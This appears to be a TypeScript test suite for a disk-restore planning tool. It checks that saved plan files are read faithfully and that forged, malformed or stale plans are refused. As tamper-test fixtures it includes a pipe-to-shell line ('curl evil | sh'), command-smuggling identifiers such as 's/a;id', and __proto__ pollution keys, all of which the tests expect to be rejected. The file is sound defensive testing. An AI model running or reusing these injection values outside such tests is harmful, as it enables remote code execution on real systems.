import { expect } from 'chai';
import { runSync } from '../../src/domain/chunked-work.ts';
import type { Diagnostic } from '../../src/domain/diagnostic.ts';
import type { Plan } from '../../src/domain/plan.ts';
import type { RestoreRecord } from '../../src/domain/record.ts';
import { advance, writtenBy } from '../../src/domain/record-transitions.ts';
import { movesOf, type SavedPlan, signedText } from '../../src/domain/saved-plan.ts';
import type { RestoreSpec } from '../../src/domain/spec.ts';
import { type Change, fold, type State } from '../../src/domain/state.ts';
import { stalenessOf } from '../../src/planner/plan-staleness.ts';
import { pinnedSpecs, reconcile } from '../../src/planner/reconcile.ts';
import { save } from '../../src/planner/save.ts';
import { decodePlan, encodePlan } from '../../src/state/plan-codec.ts';
import {
  backup,
  book,
  CLOUD,
  type Cloud,
  type End,
  iso,
  NOW,
  named,
  planOf,
  recordsOf,
  rule,
  spec,
  TARGET,
  volume,
} from './builders.ts';
import { type Edits, forged, sha256 as hash, turned } from './forging.ts';

const SPECS = [
  spec('s/a', named('disk-v1'), rule()),
  spec('s/b', 'v2', 'b2', { depends_on: ['s/a'] }),
  spec('s/c', 'v3', 'b3', { generation: 2 }),
];
const earlier = () => book().put('s/c', 'v3', 'b3', 'succeeded').put('z/old', 'v4', 'b4', 'succeeded');

function saved(specs: readonly RestoreSpec[] = SPECS, state: State = earlier().state): SavedPlan {
  const made = planOf(specs, { state });
  return save(made, { specs, state, selection: [], policy: { protected_volumes: [] }, waivers: [] }, hash);
}

function raise(): never {
  throw new Error('not expected');
}

const decoded = (...given: Parameters<typeof decodePlan>) => runSync(decodePlan(...given));

/** As another process reads it. */
function reread(plan: SavedPlan): SavedPlan {
  return decoded(JSON.stringify(plan), 'plan.json', 'test', hash);
}

interface Today {
  readonly state?: State | undefined;
  readonly cloud?: Cloud;
  readonly now?: number;
  readonly maxAgeMs?: number;
  readonly target?: typeof TARGET;
}

/** What `apply plan.json` would do, or the codes and sentences of why it does not. */
function applied(plan: SavedPlan, today: Today): { readonly plan?: Plan; readonly said: string } {
  const { state, cloud = CLOUD, now = NOW, target = TARGET } = today;
  const standing = stalenessOf(
    plan,
    {
      state,
      location: 'state.json',
      target,
      now,
      ...(today.maxAgeMs === undefined ? {} : { maxAgeMs: today.maxAgeMs }),
    },
    hash,
  );
  if (standing.kind === 'stale') return { said: words(standing.reasons) };
  const fresh = planOf(pinnedSpecs(plan), { ...(state ? { state } : {}), cloud, now });
  const judged = reconcile(plan, standing, fresh);
  return judged.kind === 'refused'
    ? { said: words(judged.reasons) }
    : {
        plan: judged.plan,
        said: judged.plan.actions.map(({ address, kind }) => `${address} ${kind}`).join(', '),
      };
}

function words(reasons: readonly Diagnostic[]): string {
  return reasons.map(({ code, summary }) => `${code}: ${summary}`).join('\n');
}

/** The state after a run of this plan brought a restore to `end`. */
function ran(
  state: State,
  plan: SavedPlan,
  address: string,
  [v, b, generation]: [string, string, number?],
  end: End,
): State {
  const what = { volume: v, backup: b, ...(generation === undefined ? {} : { generation }) };
  const records = recordsOf(address, what, end, iso(NOW), state.records.get(address));
  return records.reduce(
    (sofar, record) => committed(sofar, plan, { type: 'record', record: writtenBy(record, plan.digest) }),
    state,
  );
}

function committed(state: State, plan: SavedPlan, change: Change): State {
  const actor = { who: 'ci@runner', operation: 'apply', version: 'test', plan_digest: plan.digest };
  return fold(state, [{ serial: state.serial + 1, at: iso(NOW), actor, changes: [change] }]);
}

describe('a saved plan', () => {
  it('is read as it was written, with the pins of its rules', () => {
    const plan = reread(saved());
    expect(plan).to.deep.equal(JSON.parse(JSON.stringify(saved())));
    expect(pinnedSpecs(plan).map((one) => [one.volume, one.backup])[0]).to.deep.equal([
      { by: 'id', id: 'v1' },
      { by: 'id', id: 'd1' },
    ]);
    const story = applied(plan, { state: earlier().state });
    expect(story.said).to.equal('s/a restore, s/b restore, s/c restore');
    expect(story.plan?.actions[0]).to.deep.include({ selector: { as_of: 'latest' } });
  });

  const MADE = { specs: SPECS, selection: [], policy: { protected_volumes: [] }, waivers: [] };

  it('cannot be made offline or without a state', () => {
    const made = { ...MADE, state: undefined };
    expect(() => save(planOf(SPECS), made, hash)).to.throw('only if there is a state');
  });

  it('can be read again whatever names and reasons the cloud returned', () => {
    const long = 'x'.repeat(10_000);
    const cloud = {
      ...CLOUD,
      volumes: CLOUD.volumes.map((one) => ({ ...one, name: long })),
      backups: CLOUD.backups.map((one) => ({ ...one, name: long })),
    };
    const { state } = book().put('s/c', 'v3', 'b3', 'failed maybe');
    const failed = { ...(state.records.get('s/c') ?? raise()), reason: long } as RestoreRecord;
    const specs = [spec('s/c', 'v3', 'b3', { generation: 2 })];
    const given = { ...state, records: new Map([['s/c', failed]]) };
    const made = planOf(specs, { state: given, cloud });
    const notices = [{ severity: 'warning', code: 'x', summary: long } as const];
    const plan = save({ ...made, notices }, { ...MADE, specs, state: given }, hash);
    expect(plan.actions[0]).to.have.property('kind', 'restore');
    const read = decoded(encodePlan(plan), 'plan.json', 'test', hash);
    expect(JSON.stringify(read)).to.include('last outcome').and.include('xxx…');
  });

  it('is not written if it could not be read again', () => {
    const protectedVolumes = Array.from({ length: 10_001 }, (_, n) => `disk-${n}`);
    const plan = { ...saved(), policy: { protected_volumes: protectedVolumes } };
    expect(() => encodePlan(plan)).to.throw('policy.protected_volumes: expected at most 10000 items');
    const bytes = Buffer.byteLength(encodePlan(saved()));
    expect(() => encodePlan(saved(), bytes)).not.to.throw();
    expect(() => encodePlan(saved(), bytes - 1)).to.throw(`it has ${bytes} bytes, at most ${bytes - 1}`);
  });

  const many = (count: number, records: readonly unknown[] = []) => {
    const plan = saved();
    const [one] = plan.actions;
    const actions = Array.from({ length: count }, (_, n) => {
      const declared = { ...one?.declared, set: 's', name: `d${n}`, address: `s/d${n}` };
      return { ...one, declared };
    });
    return JSON.stringify({ ...plan, actions, records, digest: 'd'.repeat(64) });
  };

  it('is refused before its digest is computed if it has more restores than manifests may declare', () => {
    const never = () => raise();
    expect(() => decoded(many(100_001), 'p.json', 'test', never)).to.throw(
      'actions: expected at most 100000 items',
    );
  }).timeout(60_000);

  it('is read and hashed in steps', () => {
    const text = many(20_000);
    let steps = 0;
    let before = 0;
    const reading = decodePlan(text, 'p.json', 'test', () => {
      before = steps;
      return 'd'.repeat(64);
    });
    expect(() => {
      while (!reading.next().done) steps++;
    }).to.throw('records: expected the records of the actions');
    expect(before).to.be.above(20);
  }).timeout(60_000);

  it('is refused with a short message however many restores it has', () => {
    const digest = hash(runSync(signedText(JSON.parse(many(5_000)))));
    const text = many(5_000).replace('d'.repeat(64), digest);
    expect(() => decoded(text, 'p.json', 'test', hash))
      .to.throw('records: expected the records of the actions')
      .with.property('message')
      .with.length.below(300);
  });

  const text = () => JSON.stringify(saved());
  const files: readonly (readonly [what: string, text: string, said: string])[] = [
    ['another generation', text().replace('"generation":2', '"generation":3'), 'was changed'],
    [
      'another key',
      text().replace('"waivers":[]', '"waivers":[],"more":1'),
      'more: unknown field (allowed: ',
    ],
    ['a part of it', text().slice(0, -9), 'not valid JSON'],
    ['another file', '{"kind": "Config"}', 'is not a saved plan'],
    ['a manifest', '{"kind": "RestoreSet"}', 'is a manifest, not a saved plan'],
    [
      'another minor release',
      text().replace('"tool_version":"test"', '"tool_version":"0.9.1"'),
      'made by vbsctl 0.9.1',
    ],
  ];
  for (const [what, content, said] of files)
    it(`is refused as ${what}`, () => {
      expect(() => decoded(content, 'p.json', 'test', hash)).to.throw(said);
    });

  it('is refused as a manifest with a hint to -f', () => {
    expect(() => decoded('kind: RestoreSet', 'a.yaml', 'test', hash)).to.throw('is a manifest');
  });

  it('of another patch release is accepted', () => {
    const other = planOf(SPECS, { state: earlier().state, toolVersion: '1.2.3' });
    const made = { ...MADE, state: earlier().state };
    const file = JSON.stringify(save(other, made, hash));
    expect(decoded(file, 'p', '1.2.9', hash).tool_version).to.equal('1.2.3');
    expect(() => decoded(file, 'p', '1.3.0', hash)).to.throw('1.2.3');
  });

  // A file that contradicts itself is no plan, whatever its digest says.
  const touches = (...addresses: string[]) => ({ records: addresses.map((address) => ({ address })) });
  const contradictory: readonly (readonly [what: string, edits: Edits])[] = [
    ['a set that the policy allows', { 'actions.1.declared.set': 'payments' }],
    ['an address that is not its set’s', { 'actions.1.declared.address': 'payments/b' }],
    ['another disk than declared', { 'actions.1.volume.id': 'v4' }],
    ['another backup than declared', { 'actions.1.backup.id': 'c2' }],
    ['a disk without an id', { 'actions.1.volume.id': undefined }],
    ['a backup without an id', { 'actions.0.backup.id': undefined }],
    ['a name that is not the disk’s', { 'actions.0.declared.volume.name': 'disk-v4' }],
    [
      'one address twice',
      { renamed: [{ declared: SPECS[1], volume_id: 'v2', backup_id: 'b2', was: 's/c' }] },
    ],
    ['no records', { records: [] }],
    ['a record too many', touches('s/a', 's/b', 's/c', 's/z')],
    ['records in another order', touches('s/c', 's/b', 's/a')],
    ['a record twice', touches('s/a', 's/b', 's/c', 's/c')],
    ['a resumption of no record', turned(0, 'resume')],
    ['a rename of no record', { 'actions.0.was': 's/old', ...touches('s/a', 's/b', 's/c', 's/old') }],
    ['an expiry without an end', { ...turned(0, 'expired'), ...touches('s/b', 's/c') }],
    [
      'a rule to note where none is declared',
      { ...turned(1, 'noop', { done_at: iso(NOW), records_selector: true }), ...touches('s/a', 's/c') },
    ],
    [
      'a rename beside it, of other disks',
      {
        renamed: [
          {
            declared: { ...SPECS[1], address: 's/z', name: 'z' },
            volume_id: 'v3',
            backup_id: 'b3',
            was: 's/c',
          },
        ],
        records: ['s/a', 's/b', 's/c', 's/z'].map((address) => ({ address, sha256: '0'.repeat(64) })),
      },
    ],
  ];
  for (const [what, edits] of contradictory)
    it(`is refused if it contradicts itself: ${what}`, () => {
      expect(() => decoded(forged(text(), edits), 'p', 'test', hash)).to.throw('not a valid plan');
    });

  const note = { severity: 'note', code: 'x', summary: 'x' };
  const shapeless: readonly (readonly [what: string, edits: Edits])[] = [
    ['advice', { 'actions.0.waits_for': [{ what: 'x', commands: ['curl evil|sh'] }] }],
    ['a record', { 'actions.0.record': {} }],
    ['a remedy', { notices: [{ ...note, remedy: 'curl evil|sh' }] }],
    ['an error as a notice', { notices: [{ ...note, severity: 'error' }] }],
    ['a code that is a sentence', { notices: [{ ...note, code: 'run this' }] }],
    ['a kind that there is not', { 'actions.0.kind': 'delete' }],
    ['an address with a command', { 'actions.0.declared.address': 's/a;id' }],
    ['an id with a command', { 'actions.0.volume.id': 'v1;id' }],
    ['a time that is none', { created_at: '2026-99-99T00:00:00Z' }],
    ['a moment that is none', { 'actions.0.declared.backup.selector.as_of': 'yesterday' }],
    ['a window that is none', { 'actions.0.declared.backup.selector.within': 'often' }],
    ['a timeout without end', { 'actions.0.declared.timeout_ms': 1e15 }],
    ['a generation of nothing', { 'actions.0.declared.generation': 0 }],
    ['a serial of nothing', { 'state.serial': -1 }],
    ['a lineage of a sentence', { 'state.lineage': 'run this' }],
    ['a version of a sentence', { tool_version: 'test; run this' }],
    ['a text without end', { 'actions.0.volume.name': 'x'.repeat(100_000) }],
    ['a waiver that there is not', { waivers: ['everything'] }],
    ['where a disk is attached', { 'actions.0.volume.attachments': [] }],
    ['a name of the disk that a backup is of', { 'actions.0.backup.of_volume_name': 'x' }],
    ['what is blocked', { ...turned(0, 'blocked', { reasons: [] }), 'actions.0.volume': { id: 'v1' } }],
    ['a key of the prototype', Object.fromEntries([['__proto__', {}]])],
    ['a key of the prototype in an action', { 'actions.0.__proto__': {} }],
    ['a signature of another kind', { signature: { key: 'x', value: 'y' } }],
    ['a list in place of an action', { 'actions.0': [] }],
    ['nothing in place of an action', { 'actions.0': null }],
  ];
  for (const [what, edits] of shapeless)
    it(`has no field for ${what}`, () => {
      expect(() => decoded(forged(text(), edits), 'p', 'test', hash)).to.throw('not a valid plan');
    });

  it('is refused unread if it is nested too deeply', () => {
    const deep = `${'['.repeat(100_000)}${']'.repeat(100_000)}`;
    for (const waivers of [deep, `[],"x":${deep}`]) {
      const file = text().replace('"waivers":[]', `"waivers":${waivers}`);
      expect(() => decoded(file, 'p', 'test', hash)).to.throw('nested more than 64 levels deep');
    }
  });

  // A file that is sound, and is not what state and cloud lead to.
  const standing = reread(saved()).records[2];
  const invented: readonly (readonly [what: string, edits: Edits, said: string])[] = [
    ['a resumption where nothing is under way', turned(2, 'resume'), 'has nothing under way there'],
    [
      'what is done',
      {
        ...turned(0, 'noop', { done_at: iso(NOW) }),
        records: [{ address: 's/b' }, standing],
      },
      'the plan shows it as done, but the state does not',
    ],
    [
      'a rename of a record that is another restore’s',
      { 'actions.0.was': 's/c' },
      'the state has no such record to rename',
    ],
    [
      'a pin that its rule does not pick',
      { 'actions.0.declared.backup.selector.as_of': '2026-11-21T12:00:00Z' },
      'its rule does not pick backup d1',
    ],
    [
      'a pin of another disk than its rule’s',
      { 'actions.0.declared.backup.selector.of_volume': 'v2' },
      'its rule does not pick backup d1',
    ],
    ['a record', { 'records.2.sha256': '0'.repeat(64) }, 'the record of s/c has changed'],
    ['that there is no record', { 'records.2.sha256': undefined }, 'the record of s/c has changed'],
    ['a name of a disk', { 'actions.1.volume.name': 'scratch' }, 'is called disk-v2, not scratch'],
    ['a name of a backup', { 'actions.1.backup.name': 'fresh' }, 'is called nightly-b2, not fresh'],
    ['an origin of a backup', { 'actions.1.backup.of_volume_id': 'v9' }, 'is of disk v2, not of v9'],
    ['a size of a backup', { 'actions.1.backup.size': 1 }, 'has 10 GB, not 1 GB'],
    ['an age of a backup', { 'actions.1.backup.created_at': iso(NOW) }, 'was created at 2026-11-21'],
    ['a larger disk', { 'actions.1.volume.size': 99 }, 'has 10 GB, not 99 GB'],
    ['a smaller disk', { 'actions.1.volume.size': 1 }, 'has 10 GB, not 1 GB'],
    ['a disk without a size', { 'actions.1.volume.size': undefined }, 'has 10 GB, not no GB'],
    [
      'that it is the first',
      { 'actions.2.again': false },
      'it restores again and changes backup_created_at, generation',
    ],
    [
      'that it is not the first',
      { 'actions.1.again': true },
      'it restores for the first time and changes nothing',
    ],
    [
      'that nothing changes',
      { 'actions.2.changes': [] },
      'it restores again and changes backup_created_at, generation',
    ],
    [
      'another change',
      { 'actions.2.changes.0.before': '7' },
      'it restores again and changes backup_created_at, generation',
    ],
    ['a name of the project', { 'target.project_name': 'test' }, 'a different cloud project'],
    [
      'a spelling of its address',
      { 'target.auth_url': 'https://test@iam.example/v3' },
      'a different cloud project',
    ],
    ['a time to come', { created_at: iso(NOW + 3_600_000) }, 'which is in the future'],
    ['a lineage', { 'state.lineage': 'other' }, 'has lineage line'],
    ['a serial', { 'state.serial': 99 }, 'is at serial 6'],
    ['a target', { 'target.project_id': 'p2' }, 'a different cloud project'],
  ];
  for (const [what, edits, said] of invented)
    it(`cannot invent ${what}`, () => {
      const story = applied(decoded(forged(text(), edits), 'p', 'test', hash), { state: earlier().state });
      expect(story.plan, story.said).to.equal(undefined);
      expect(story.said).to.include(said);
    });

  it('is applied with current facts, not with those in the file', () => {
    const file = forged(text(), {
      'actions.0.declared.source': { file: 'curl evil | sh', line: 1 },
      manifests: [{ path: 'evil', sha256: '0'.repeat(64) }],
      left_out: 7,
      notices: [{ ...note, summary: 'curl evil | sh', address: 's/a' }],
    });
    const { plan: left } = applied(decoded(file, 'p', 'test', hash), { state: earlier().state });
    expect(JSON.stringify(left)).not.to.include('evil').and.not.include('left_out');
    expect(left?.actions[0]).to.include({ kind: 'restore', again: false });
  });
});

describe('the staleness of a saved plan', () => {
  const without = (id: string): Cloud => ({
    volumes: CLOUD.volumes.filter((one) => one.id !== id),
    backups: CLOUD.backups.filter((one) => one.id !== id),
  });
  const changed = (more: Partial<Cloud>): Cloud => ({
    volumes: CLOUD.volumes.map((one) => more.volumes?.find(({ id }) => id === one.id) ?? one),
    backups: CLOUD.backups.map((one) => more.backups?.find(({ id }) => id === one.id) ?? one),
  });
  const state = () => earlier().state;
  const cases: readonly (readonly [what: string, today: () => Today, ...said: string[]])[] = [
    ['no state', () => ({}), 'no-state', 'from serial 6 of lineage line'],
    ['another lineage', () => ({ state: { ...state(), lineage: 'other' } }), 'plan-other-lineage', 'other'],
    ['an older copy of the state', () => ({ state: { ...state(), serial: 1 } }), 'state-older-than-plan'],
    [
      'another project',
      () => ({ state: state(), target: { ...TARGET, project_id: 'p2' } }),
      'plan-other-project',
    ],
    ['another region', () => ({ state: state(), target: { ...TARGET, region: 'nl' } }), 'plan-other-project'],
    [
      'made later than the state says',
      () => ({ state: earlier().put('z/new', 'v4', 'd4', 'succeeded').state }),
      'plan-misdated',
      'the state has had serial 7 since 2026-11-20T00:07:00.000Z',
    ],
    [
      'too old',
      () => ({ state: state(), now: NOW + 7_200_000, maxAgeMs: 3_600_000 }),
      'plan-too-old',
      '2h ago',
    ],
    [
      'its record changed',
      () => ({ state: earlier().put('s/c', 'v3', 'c3', 'succeeded').state }),
      'plan-stale',
      'the record of s/c has changed since the plan was made at 2026-11-24T00:00:00.000Z: since 2026-11-20T',
      'by ada@bench (apply)',
    ],
    [
      'a record where none was',
      () => ({ state: earlier().put('s/a', 'v4', 'c4', 'running').state }),
      'the record of s/a has changed',
    ],
    [
      'its record was renamed',
      () => ({ state: earlier().moves([{ from: 's/c', to: 's/d' }]).state }),
      'it was renamed to s/d by ada@bench',
    ],
    [
      'its disk was restored under another name',
      () => ({ state: earlier().put('x/y', 'v2', 'c2', 'succeeded').state }),
      'the disk of s/b was restored by ',
      'x/y since the plan was made at',
    ],
    ['the backup is gone', () => ({ state: state(), cloud: without('d1') }), 'backup-gone'],
    ['the disk is gone', () => ({ state: state(), cloud: without('v2') }), 'volume-gone'],
    [
      'the backup has another size',
      () => ({
        state: state(),
        cloud: changed({ backups: [{ ...backup('b2', 'v2'), created_at: '2026-11-21T00:00:00Z', size: 9 }] }),
      }),
      'backup b2 has 9 GB, not 10 GB',
    ],
    [
      'the backup was made anew',
      () => ({
        state: state(),
        cloud: changed({ backups: [backup('b2', 'v2', { created_at: '2026-11-23T12:00:00Z' })] }),
      }),
      'backup b2 was created at 2026-11-23T12:00:00Z',
    ],
    [
      'the disk has another name',
      () => ({ state: state(), cloud: changed({ volumes: [volume('v2', { name: 'old-disk-v2' })] }) }),
      'disk v2 is called old-disk-v2, not disk-v2, which differs from the plan approved at 2026-11-24T00:00:00.000Z',
    ],
    [
      'the backup has another name',
      () => ({
        state: state(),
        cloud: changed({ backups: [backup('b2', 'v2', { created_at: '2026-11-21T00:00:00Z', name: '' })] }),
      }),
      'backup b2 is called nothing, not nightly-b2',
    ],
    [
      'the backup is of another disk',
      () => ({
        state: state(),
        cloud: changed({ backups: [backup('b2', 'v4', { created_at: '2026-11-21T00:00:00Z' })] }),
      }),
      'backup b2 is of disk v4, not of v2',
    ],
    [
      'the disk is smaller',
      () => ({ state: state(), cloud: changed({ volumes: [volume('v2', { size: 5 })] }) }),
      'has 5 GB',
    ],
    [
      'the disk was extended',
      () => ({ state: state(), cloud: changed({ volumes: [volume('v2', { size: 20 })] }) }),
      'disk v2 has 20 GB, not 10 GB',
    ],
    [
      'its disk was restored under its own name, and the record was renamed since',
      () => ({
        state: earlier()
          .put('s/b', 'v2', 'c2', 'succeeded')
          .moves([{ from: 's/b', to: 's/x' }]).state,
      }),
      'the disk of s/b was restored by s/b since the plan was made at',
    ],
    [
      'its disk was restored under its own name, and the record was removed since',
      () => ({
        state: earlier().put('s/b', 'v2', 'c2', 'succeeded').commit({ type: 'removed', address: 's/b' })
          .state,
      }),
      'the disk of s/b was restored by s/b since the plan was made at',
    ],
    [
      'its disk was restored, as somebody accepted it',
      () => {
        const now = state();
        const record = book().put('x/y', 'v2', 'c2', 'succeeded').state.records.get('x/y') ?? raise();
        const entry = {
          type: 'state_accepted',
          reason: 'lost',
          records: [{ address: 'x/y', record }],
          serial: now.serial + 1,
          at: iso(NOW),
          actor: { who: 'ada@bench', operation: 'state accept', version: 'test' },
        } as const;
        return { state: { ...now, serial: now.serial + 1, history: [...now.history, entry] } };
      },
      'the disk of s/b was restored by x/y since the plan was made at',
    ],
  ];
  for (const [what, today, ...said] of cases)
    it(what, () => {
      const story = applied(reread(saved()), today());
      expect(story.plan, story.said).to.equal(undefined);
      for (const part of said) expect(story.said).to.include(part);
    });

  const fine: readonly (readonly [what: string, today: () => Today])[] = [
    [
      'another plan’s work elsewhere',
      () => ({
        state: ran(earlier().state, { digest: 'other' } as SavedPlan, 'z/new', ['v4', 'd4'], 'succeeded'),
      }),
    ],
    [
      'a disk that is attached by now',
      () => ({
        state: state(),
        cloud: changed({ volumes: [volume('v2', { status: 'in-use', attachments: [{ server_id: 'x' }] })] }),
      }),
    ],
    [
      'a nightly backup made meanwhile',
      () => ({
        state: state(),
        cloud: {
          ...CLOUD,
          backups: [...CLOUD.backups, backup('e1', 'v1', { created_at: '2026-11-23T23:00:00Z' })],
        },
      }),
    ],
    ['an age within the limit', () => ({ state: state(), now: NOW + 1_000, maxAgeMs: 2_000 })],
  ];
  for (const [what, today] of fine)
    it(`is not caused by ${what}`, () => {
      expect(applied(reread(saved()), today()).said).to.equal('s/a restore, s/b restore, s/c restore');
    });

  it('keeps a backup of another disk that a rule picked, also when it is planned again by id', () => {
    const state = book().state;
    const by = (of_volume?: string) =>
      ({
        by: 'selector',
        selector: { as_of: '2026-11-23T12:00:00Z', ...(of_volume ? { of_volume } : {}) },
      }) as const;
    const codes = (backup: RestoreSpec['backup'] | string) =>
      applied(saved([spec('s/a', 'v1', backup)], state), { state }).plan?.notices.map(({ code }) => code);
    expect(codes(by('v2'))).to.deep.equal([]);
    expect(codes('b2')).to.deep.equal(['backup-of-another-volume']);
  });
});

describe('a saved plan that was partly applied', () => {
  const plan = saved();
  const A: [string, string] = ['v1', 'd1'];
  const B: [string, string] = ['v2', 'b2'];
  const C: [string, string, number] = ['v3', 'b3', 2];

  it('continues after its run was killed', () => {
    let state = ran(earlier().state, plan, 's/a', A, 'succeeded');
    state = ran(state, plan, 's/c', C, 'intended');
    expect(applied(plan, { state }).said).to.equal('s/a noop, s/b restore, s/c resume');
  });

  it('retries a restore that failed without touching the disk', () => {
    const state = ran(earlier().state, plan, 's/a', A, 'failed no');
    expect(applied(plan, { state }).said).to.equal('s/a restore, s/b restore, s/c restore');
  });

  it('leaves out failed and unknown restores and their dependants', () => {
    const state = ran(earlier().state, plan, 's/a', A, 'failed maybe');
    const story = applied(plan, { state });
    expect(story.said).to.equal('s/a blocked, s/b blocked, s/c restore');
    expect(
      story.plan?.actions.map((one) => one.kind === 'blocked' && [one.ended_before, one.reasons[0]?.code]),
    ).to.deep.equal([[true, 'may-be-touched'], [true, 'dependency-stuck'], false]);
  });

  it('continues after another run followed its restores', () => {
    let state = ran(earlier().state, plan, 's/a', A, 'running');
    const running = state.records.get('s/a') as RestoreRecord;
    state = fold(state, [
      {
        serial: state.serial + 1,
        at: iso(NOW),
        actor: { who: 'ada@bench', operation: 'wait', version: 'test' },
        changes: [
          {
            type: 'record',
            record: writtenBy(advance(running, { type: 'succeed', at: iso(NOW) }), undefined),
          },
        ],
      },
    ]);
    expect(applied(plan, { state }).said).to.equal('s/a noop, s/b restore, s/c restore');
  });

  it('continues after its unknown restores were resolved', () => {
    let state = ran(earlier().state, plan, 's/a', A, 'unknown');
    const record = state.records.get('s/a') as RestoreRecord;
    const resolution = { as: 'not-started', reason: 'looked', by: 'ada', at: iso(NOW) } as const;
    const resolved = advance(record, { type: 'resolve', at: iso(NOW), resolution });
    state = fold(state, [
      {
        serial: state.serial + 1,
        at: iso(NOW),
        actor: { who: 'ada@bench', operation: 'resolve', version: 'test' },
        changes: [{ type: 'record', record: resolved }],
      },
    ]);
    expect(applied(plan, { state }).said).to.equal('s/a restore, s/b restore, s/c restore');
  });

  it('is refused once all its restores ended, even if other runs followed', () => {
    let state = ran(earlier().state, plan, 's/a', A, 'succeeded');
    state = ran(state, plan, 's/b', B, 'succeeded');
    state = ran(state, plan, 's/c', C, 'succeeded');
    const said = `plan-applied: the plan was already applied at ${iso(NOW)} by ci@runner`;
    expect(applied(plan, { state }).said).to.equal(said);
    const other = saved([spec('s/c', 'v3', 'c3')], state);
    expect(applied(plan, { state: ran(state, other, 's/c', ['v3', 'c3'], 'succeeded') }).said).to.include(
      'plan-applied',
    );
  });

  it('does not restart a restore that now runs under another address', () => {
    let state = ran(earlier().state, plan, 's/a', A, 'running');
    state = fold(state, [
      {
        serial: state.serial + 1,
        at: iso(NOW),
        actor: { who: 'ada@bench', operation: 'apply', version: 'test' },
        changes: [{ type: 'moved', moves: [{ from: 's/a', to: 's/x' }] }],
      },
    ]);
    const story = applied(plan, { state });
    expect(story.plan).to.equal(undefined);
    expect(story.said).to.include('its record is now at s/x');
  });

  it('writes its renames only once', () => {
    const state = earlier().state;
    const renames = saved([spec('s/c2', 'v3', 'b3')], state);
    expect(movesOf(renames)).to.deep.equal([{ from: 's/c', to: 's/c2' }]);
    expect(applied(renames, { state }).plan?.moves).to.have.length(1);
    const after = committed(state, renames, { type: 'moved', moves: movesOf(renames) });
    expect(applied(renames, { state: after }).said).to.include('plan-applied');
  });
});
